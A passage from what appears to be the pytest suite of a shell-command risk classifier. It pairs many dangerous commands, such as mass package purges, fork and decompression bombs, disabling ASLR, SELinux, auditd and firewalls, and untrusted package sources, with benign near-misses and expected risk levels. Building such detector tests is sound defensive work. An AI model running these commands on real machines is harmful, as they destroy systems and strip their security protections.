    ("sudo zypper mr --disable --all", HIGH),
    ("sudo zypper --gpg-auto-import-keys ref", HIGH),
    ("sudo zypper in --allow-unsigned-rpm ./x.rpm", HIGH),
    ("sudo zypper --no-gpg-checks ref", HIGH),
    ("sudo pacman -Sy --noconfirm foo", HIGH),
    ("sudo pacman -Rdd --noconfirm $(pacman -Qq)", CRITICAL),
    ("sudo pacman -Syu --ignore linux,openssl", HIGH),
    ("echo 'IgnorePkg = openssl' | sudo tee -a /etc/pacman.conf", HIGH),
    ("sudo pacman -Sdd --noconfirm systemd", HIGH),
    ("sudo pacman -Syu --overwrite '/usr/*'", HIGH),
    ("sudo apk --allow-untrusted add http://example.com/x.apk", HIGH),
    ("echo 'http://203.0.113.7/alpine/v3.19/main' | sudo tee -a /etc/apk/repositories", HIGH),
    ("sudo snap remove --purge snapd", HIGH),
    ("sudo snap set system refresh.hold=forever", HIGH),
    ("sudo flatpak mask '*'", HIGH),
    ("sudo flatpak uninstall --delete-data --all -y", HIGH),
    ("brew pin openssl@3", HIGH),
    ("brew install --cask --no-quarantine foo", HIGH),
    ("brew uninstall --zap --force $(brew list --cask)", HIGH),
    ("sudo rm -rf /opt/homebrew", HIGH),
    ("pip install --index-url http://pypi.internal/simple foo", HIGH),
    ("sudo pip install --target /usr/lib/python3/dist-packages requests", HIGH),
    ("sudo -H pip3 install --upgrade --ignore-installed PyYAML", HIGH),
    ("pip config set global.index-url http://10.0.0.5:8080/simple", HIGH),
    ("sudo pip uninstall -y pip", HIGH),
    ("npm install --registry http://10.1.2.3:4873 pkg", HIGH),
    ("yarn config set registry http://r.example.com", HIGH),
    ("GOINSECURE='*' go get example.com/x", HIGH),
]
SECOND_PACKAGES_BENIGN = [
    ("sudo apt-get purge -y '~c'", MODERATE),
    ("sudo dnf remove -y --oldinstallonly", MODERATE),
    ("sudo yum autoremove -y", MODERATE),
    ("sudo zypper rl openssl", MODERATE),
    ("sudo pacman -Syu --ignore nvidia", MODERATE),
    ("sudo snap refresh --hold=720h", MODERATE),
    ("sudo flatpak mask org.mozilla.firefox", MODERATE),
    ("brew pin node", MODERATE),
    ("brew list --pinned", SAFE),
    ("pip install --user --break-system-packages black", MODERATE),
    ("pip uninstall -y -r requirements.txt", MODERATE),
    ("npm install -g --unsafe-perm some-cli", MODERATE),
    ("npm config set ignore-scripts true", MODERATE),
    ("sudo npm cache clean --force", MODERATE),
    ("sudo apt-get update --allow-releaseinfo-change", MODERATE),
    ("sudo apt-get install -y --only-upgrade openssl", MODERATE),
    ("sudo dpkg-reconfigure -plow unattended-upgrades", MODERATE),
    ("apt-get changelog openssl", SAFE),
    ("apt-get download openssl", MODERATE),
    ("sudo apt-get check", SAFE),
    ("debsums -c", SAFE),
    ("rpm -Va", SAFE),
    ("dnf updateinfo list security", MODERATE),
    ("dnf list --upgrades", SAFE),
    ("zypper lp -g security", SAFE),
    ("sudo zypper patch -g security", MODERATE),
    ("checkupdates", SAFE),
    ("pacman -Qu", SAFE),
    ("sudo paccache -rk2", MODERATE),
    ("apk version -l '<'", SAFE),
    ("snap changes", SAFE),
    ("sudo flatpak update --appstream", MODERATE),
    ("port outdated", SAFE),
    ("npm ls --all", SAFE),
    ("npm audit --json", MODERATE),
    ("gem outdated", SAFE),
    ("cargo tree", SAFE),
    ("composer show -i", SAFE),
    ("go env GOSUMDB", SAFE),
    ("sudo zypper mr --enable --all", MODERATE),
    ("sudo zypper ref", MODERATE),
    ("sudo pacman -S --overwrite '/usr/lib/python3.11/site-packages/foo/*' python-foo", MODERATE),
    ("pip install --target ./vendor requests", MODERATE),
    ("rpm -Vv bash", SAFE),
    ("composer outdated --direct", SAFE),
    ("cargo search ripgrep", SAFE),
]

# == a third pass, written before any rule for it was changed: other package managers and
# front ends, Windows equivalents, decompression, and more ways to exhaust the machine.

# What a compressed file holds is not known from the line: a bomb made earlier in the same
# line (`head -c 1T /dev/zero | gzip > f && zcat f > g`) is not followed from f to g.
_PACKED_SIZE = "the size a compressed file unpacks to is not followed through the line"

THIRD_DANGEROUS = [
    ("sudo nala remove -y --purge systemd", CRITICAL),
    ("sudo aptitude purge -y '~i'", CRITICAL),
    ("sudo apt-get -o APT::Get::AllowUnauthenticated=1 -y install foo", HIGH),
    ("sudo dnf5 remove -y glibc", CRITICAL),
    ("sudo microdnf remove -y rpm", CRITICAL),
    ("sudo pkcon remove -y systemd", CRITICAL),
    ("sudo pkg delete -fy openssl", HIGH),
    ("sudo pkg lock -y openssl", HIGH),
    ("sudo xbps-install -Sy --ignore-conf-repos -R http://203.0.113.9/current foo", HIGH),
    ("nix-env -e '.*'", HIGH),
    ("sudo eopkg remove -y glibc", CRITICAL),
    ("sudo swupd bundle-remove os-core", CRITICAL),
    ("sudo apt-mark hold 'linux-image-*'", HIGH),
    ("echo 'openssl' | sudo tee /etc/yum/pluginconf.d/versionlock.list", HIGH),
    (
        "printf 'Package: *\nPin: release *\nPin-Priority: -1\n' "
        "| sudo tee /etc/apt/preferences.d/block",
        HIGH,
    ),
    ("sudo rm -f /etc/apt/apt.conf.d/50unattended-upgrades", HIGH),
    (
        "sudo dpkg-reconfigure -f noninteractive unattended-upgrades "
        "&& sudo apt-get purge -y unattended-upgrades",
        HIGH,
    ),
    ("shutdown /r /t 0", HIGH),
    ("wmic os where primary=true call reboot", HIGH),
    ("Set-Service -Name wuauserv -StartupType Disabled", HIGH),
    ("sc.exe config wuauserv start= disabled", HIGH),
    ("Get-Process | Stop-Process -Force", HIGH),
    ("for /l %i in (0,0,1) do start cmd", HIGH),
    ("fsutil file createnew C:\\fill.bin 900000000000", HIGH),
    (
        "winget uninstall --id Microsoft.WindowsTerminal --force "
        "&& winget uninstall Microsoft.PowerShell",
        MODERATE,
    ),
    ("cat /dev/zero | gzip -1 | gunzip > /tmp/zeros", HIGH),
    ("zcat /dev/zero > out", MODERATE),
    ("yes | gzip > /tmp/y.gz", HIGH),
    pytest.param(
        "head -c 1T /dev/zero | gzip > ~/bomb.gz && zcat ~/bomb.gz > ~/big",
        HIGH,
        marks=pytest.mark.xfail(reason=_PACKED_SIZE, strict=True),
    ),
    pytest.param(
        'python3 -c \'import zlib; open("big", "wb")'
        '.write(zlib.decompress(open("bomb", "rb").read()) * 10**9)\'',
        HIGH,
        marks=pytest.mark.xfail(reason=_PACKED_SIZE, strict=True),
    ),
    ("for i in $(seq 1 5000000); do ln -s /etc/passwd link$i; done", HIGH),
    ("sudo sysctl -w kernel.pid_max=500 && ulimit -u unlimited", HIGH),
    ("sudo sysctl -w vm.overcommit_memory=2 vm.overcommit_ratio=1", HIGH),
    ("echo 1 | sudo tee /proc/sys/vm/panic_on_oom", HIGH),
    ("echo 100 | sudo tee /proc/sys/fs/file-max", HIGH),
    ("sudo sh -c 'echo 0 > /proc/sys/kernel/randomize_va_space'", HIGH),
    ("sudo tee /proc/sys/kernel/yama/ptrace_scope <<< 0", HIGH),
    ("sudo systemctl disable --now systemd-journald.socket", HIGH),
    ("sudo systemctl mask --now auditd", HIGH),
    ("sudo systemctl isolate runlevel0.target", HIGH),
    ("ssh root@db1 'systemctl isolate rescue.target'", HIGH),
    ("sudo /sbin/init 6", HIGH),
    ("echo 'systemctl reboot' | at now + 1 minute", HIGH),
]
THIRD_BENIGN = [
    ("nala list --installed", SAFE),
    ("nala show openssl", SAFE),
    ("sudo nala upgrade -y", MODERATE),
    ("aptitude search '~i ssl'", SAFE),
    ("dnf5 list --installed", SAFE),
    ("pkcon get-updates", SAFE),
    ("pkg info openssl", SAFE),
    ("pkg audit -F", MODERATE),
    ("nix-env -q", SAFE),
    ("eopkg list-installed", SAFE),
    ("swupd bundle-list", SAFE),
    ("Get-Service wuauserv", SAFE),
    ("sc.exe query wuauserv", SAFE),
    ("fsutil file createnew C:\\temp\\test.bin 1048576", MODERATE),
    ("winget list --upgrade-available", SAFE),
    ("gunzip -c access.log.gz | grep 500", SAFE),
    ("gzip -t backup.tar.gz", SAFE),
    ("zstd -d archive.zst -o archive.tar", MODERATE),
    ("tar -tzf release.tar.gz | head", SAFE),
    ("mkdir -p a/b/c", MODERATE),
    ("ln -s /etc/hosts hosts.link", MODERATE),
    ("cat /proc/sys/fs/file-max", SAFE),
    ("sysctl vm.overcommit_memory", SAFE),
    ("loginctl show-session", SAFE),
    ("echo 'make backup' | at 23:00", MODERATE),
]

# == a fourth pass, written before any rule for it was changed: the same actions behind
# wrappers and odd spellings, and near misses that only mention them.

FOURTH_DANGEROUS = [
    ("command reboot", HIGH),
    ("exec shutdown -h now", HIGH),
    ("\\reboot", HIGH),
    ("'reboot'", HIGH),
    ("/usr/bin/env reboot", HIGH),
    ("$(which reboot)", HIGH),
    ("sudo -- reboot", HIGH),
    ("sudo -u root -- shutdown now", HIGH),
    ("pkexec reboot", HIGH),
    ("run0 poweroff", HIGH),
    ("sudo systemd-run --on-active=30 /bin/systemctl reboot", HIGH),
    ('sh -c "$(echo reboot)"', HIGH),
    ("echo reboot | sudo sh", HIGH),
    ("echo 'shutdown -h now' | bash", HIGH),
    ("time sudo reboot", HIGH),
    ("sudo nice -n 19 poweroff", HIGH),
    ("setsid sudo reboot", HIGH),
    ("toybox reboot", HIGH),
    ("sudo timeout 5 halt", HIGH),
    ("watch -n 60 sudo reboot", HIGH),
    ("find /tmp -name trigger -exec sudo reboot \\;", HIGH),
    ("ls /tmp/trigger && sudo reboot", HIGH),
    ("test -f /tmp/ok || sudo poweroff", HIGH),
    ("[ -f /var/run/reboot-required ] && sudo reboot", HIGH),
    ("sudo bash -c 'for m in $(lsmod | awk \"NR>1{print \\$1}\"); do rmmod $m; done'", HIGH),
    ("lsmod | awk 'NR>1{print $1}' | xargs -n1 sudo rmmod", HIGH),
    (
        "systemctl list-units --type=service --state=running --no-legend "
        "| awk '{print $1}' | xargs sudo systemctl stop",
        HIGH,
    ),
    ("sudo systemctl stop '*'", HIGH),
    ("sudo systemctl mask $(systemctl list-unit-files --no-legend | awk '{print $1}')", CRITICAL),
    ("dpkg --get-selections | awk '{print $1}' | xargs sudo apt-get -y purge", CRITICAL),
    ("pacman -Qq | sudo pacman -Rdd --noconfirm -", CRITICAL),
    ("pip freeze | xargs sudo pip uninstall -y", HIGH),
    ("npm ls -g --depth=0 --parseable | xargs -n1 basename | xargs sudo npm uninstall -g", HIGH),
    ("sudo apt-get remove -y $(apt-mark showmanual)", HIGH),
    ("sudo sysctl -w kernel.randomize_va_space=0 >/dev/null 2>&1", HIGH),
    ("sudo sysctl kernel.yama.ptrace_scope=0 kernel.kptr_restrict=0", HIGH),
    ("sudo swapoff -a; sudo sysctl vm.swappiness=0", HIGH),
    ("sudo setenforce 0; getenforce", HIGH),
    ("sudo ufw disable && sudo setenforce 0", HIGH),
    ("python3 -c 'import os; os.system(\"sudo reboot\")'", HIGH),
    ("perl -e 'exec \"poweroff\"'", HIGH),
    ('node -e \'require("child_process").execSync("shutdown -h now")\'', HIGH),
    ("ruby -e 'system(\"reboot\")'", HIGH),
    ("php -r 'shell_exec(\"reboot\");'", HIGH),
]
FOURTH_BENIGN = [
    ("echo 'sudo reboot'", SAFE),
    ("grep -rn 'shutdown -h' /etc/cron.d/", SAFE),
    ("history | grep reboot", SAFE),
    ("man 8 reboot", SAFE),
    ("type shutdown", SAFE),
    ("ls -l /sbin/reboot", SAFE),
    ("systemctl status systemd-reboot.service", SAFE),
    ("journalctl -u systemd-logind | grep -i 'power key'", SAFE),
    ("cat /etc/systemd/logind.conf", SAFE),
    ("echo ':(){ :|:& };:' > fork_bomb_example.txt", MODERATE),
    ("grep -c processor /proc/cpuinfo", SAFE),
    ("ps -eo pid,comm,%mem --sort=-%mem | head", SAFE),
    ("pgrep -c -f python", SAFE),
    ("lsmod | awk 'NR>1{print $1}' | sort", SAFE),
    ("systemctl list-units --type=service --state=running --no-legend | awk '{print $1}'", SAFE),
    ("dpkg --get-selections | awk '{print $1}' | wc -l", SAFE),
    ("rpm -qa | sort > installed.txt", MODERATE),
    ("pacman -Qq > pkglist.txt", MODERATE),
    ("brew list > brew.txt", MODERATE),
    ("apt-mark showmanual > manual.txt", MODERATE),
    ("sysctl -a 2>/dev/null | grep randomize", SAFE),
    ("swapon --show && free -h", SAFE),
    ("getenforce; sestatus", SAFE),
    ("python3 -c 'import os; print(os.uname())'", MODERATE),
    ("node -e 'console.log(process.uptime())'", MODERATE),
    ("test -f /var/run/reboot-required && echo 'reboot needed'", SAFE),
    ("[ -f /var/run/reboot-required ] && cat /var/run/reboot-required.pkgs", SAFE),
    (
        "systemctl list-units --failed --no-legend | awk '{print $2}' | xargs sudo systemctl stop",
        MODERATE,
    ),
    (
        "systemctl list-units --no-legend | grep nginx "
        "| awk '{print $1}' | xargs sudo systemctl restart",
        MODERATE,
    ),
    ("sudo systemctl stop 'docker*'", MODERATE),
]

# == a fifth pass, written before any rule for it was changed: cpu burners, memory asked for
# at once, package database chores, power through /sys, and their everyday neighbours.

FIFTH_DANGEROUS = [
    ("for i in $(seq $(nproc)); do cat /dev/urandom > /dev/null & done", HIGH),
    ("for i in {1..64}; do md5sum /dev/zero & done", HIGH),
    ("for i in $(seq 1 100); do dd if=/dev/zero of=/dev/null & done", HIGH),
    ("openssl speed -multi $(nproc) -seconds 100000", HIGH),
    ("python3 -c 'bytearray(2**40)'", HIGH),
    ("python3 -c 'import numpy; numpy.ones((10**6, 10**6))'", HIGH),
    ("node -e 'Buffer.alloc(2**40)'", HIGH),
    ("while :; do (sleep 999 &); done", CRITICAL),
    ("watch -n 0.1 'sleep 1000 &'", HIGH),
    ("sudo sysctl -w kernel.threads-max=100", HIGH),
    ("sudo sysctl -w vm.min_free_kbytes=67108864", HIGH),
    ("sudo sysctl -w vm.nr_hugepages=500000", HIGH),
    ("sudo rm -rf /var/lib/apt/lists /var/lib/dpkg/info", CRITICAL),
    ("sudo rm -f /var/lib/dpkg/status", CRITICAL),
    ("sudo rm -rf /usr/lib/sysimage/rpm", CRITICAL),
    ("sudo dpkg --clear-selections && sudo apt-get dselect-upgrade -y", CRITICAL),
    ("sudo apt-get -y autoremove --purge $(deborphan --all-packages)", HIGH),
    ("sudo rm /etc/apt/trusted.gpg && sudo rm -rf /etc/apt/trusted.gpg.d/*", HIGH),
    ("sudo apt-key add /tmp/key.asc", HIGH),
    ("wget -qO- http://203.0.113.5/key.asc | sudo apt-key add -", HIGH),
    ("sudo curl -o /etc/yum.repos.d/x.repo http://203.0.113.5/x.repo", HIGH),
    ("sudo sed -i 's/^SigLevel.*/SigLevel = Optional TrustAll/' /etc/pacman.conf", HIGH),
    ("sudo sed -i 's/^check_signature.*/check_signature = no/' /etc/pkg/FreeBSD.conf", MODERATE),
]
FIFTH_BENIGN = [
    ("python3 -c 'bytearray(1024)'", MODERATE),
    ("node -e 'Buffer.alloc(16)'", MODERATE),
    ("sudo sysctl -w kernel.threads-max=200000", MODERATE),
    ("sudo sysctl -w vm.nr_hugepages=128", MODERATE),
    ("sudo rm /var/cache/apt/archives/*.deb", MODERATE),
    ("sudo dnf clean packages", MODERATE),
    ("sudo dpkg --get-selections > selections.txt", MODERATE),
    ("deborphan", SAFE),
    ("sudo apt-get -y purge $(deborphan)", MODERATE),
    ("watch -n 5 'ps aux | grep x && echo ok'", SAFE),
    ("openssl speed -seconds 5 rsa", SAFE),
    ("apt-key fingerprint", SAFE),
    ("gpg --show-keys /tmp/key.asc", SAFE),
    ("cat /etc/yum.repos.d/fedora.repo", SAFE),
    ("grep SigLevel /etc/pacman.conf", SAFE),
    ("echo mem | sudo tee /sys/power/state", MODERATE),
    ("cat /sys/power/state", SAFE),
    ("cat /sys/class/power_supply/BAT0/capacity", SAFE),
    ("echo 50 | sudo tee /sys/class/backlight/intel_backlight/brightness", MODERATE),
]

# == a sixth pass, written before any rule for it was changed: Windows and PowerShell.

# test_safety_g_acctwin rates `bcdedit /deletevalue {default} safeboot` HIGH as dangerous;
# taking safe mode out again is usually the repair, but the two rows cannot both pass.
_SAFEBOOT = "an earlier table rates deleting the safeboot value HIGH"

SIXTH_DANGEROUS = [
    ("Restart-Computer", HIGH),
    ("shutdown -r -t 0", HIGH),
    ("bcdedit /set {current} bootstatuspolicy ignoreallfailures", HIGH),
    ("Disable-ComputerRestore -Drive 'C:\\'", HIGH),
    (
        "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU "
        "/v NoAutoUpdate /t REG_DWORD /d 1 /f",
        HIGH,
    ),
    ("while($true){Start-Process powershell}", CRITICAL),
    ("for /l %i in (1,1,1000) do start notepad", HIGH),
    ("choco uninstall -y chocolatey", HIGH),
    ("choco install -y --ignore-checksums foo", HIGH),
    ("winget install --ignore-security-hash foo", HIGH),
    ("choco source add -n x -s http://203.0.113.5/api/v2", HIGH),
]
SIXTH_BENIGN = [
    ("shutdown /h", MODERATE),
    ("shutdown /l", MODERATE),
    ("shutdown /?", SAFE),
    pytest.param(
        "bcdedit /deletevalue {current} safeboot",
        MODERATE,
        marks=pytest.mark.xfail(reason=_SAFEBOOT, strict=True),
    ),
    ("powercfg /hibernate off", MODERATE),
    ("powercfg /batteryreport", MODERATE),
    ("Stop-Service wuauserv", MODERATE),
    (
        "Disable-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux",
        MODERATE,
    ),
    ("while ($true) { Get-Date; Start-Sleep 5 }", MODERATE),
    ("for /l %i in (1,1,5) do start notepad", MODERATE),
    ("net stop wuauserv", MODERATE),
    ("sc stop wuauserv", MODERATE),
    ("shutdown /l /f", MODERATE),
]

DANGEROUS = POWER + UNITS + KERNEL + PROTECTIONS + FORKS + FILLERS + PACKAGES_REMOVED
DANGEROUS += SOURCES + HOLDS
BENIGN = POWER_BENIGN + UNITS_BENIGN + KERNEL_BENIGN + PROTECTIONS_BENIGN + FORKS_BENIGN
BENIGN += FILLERS_BENIGN + PACKAGES_BENIGN
DANGEROUS += SECOND_SYSTEM + SECOND_RESOURCES + SECOND_PACKAGES
BENIGN += SECOND_SYSTEM_BENIGN + SECOND_RESOURCES_BENIGN + SECOND_PACKAGES_BENIGN
DANGEROUS += THIRD_DANGEROUS
BENIGN += THIRD_BENIGN
DANGEROUS += FOURTH_DANGEROUS
BENIGN += FOURTH_BENIGN
DANGEROUS += FIFTH_DANGEROUS
BENIGN += FIFTH_BENIGN
DANGEROUS += SIXTH_DANGEROUS
BENIGN += SIXTH_BENIGN


@pytest.mark.parametrize(("command", "least"), DANGEROUS)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(("command", "highest"), BENIGN)
def test_benign(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
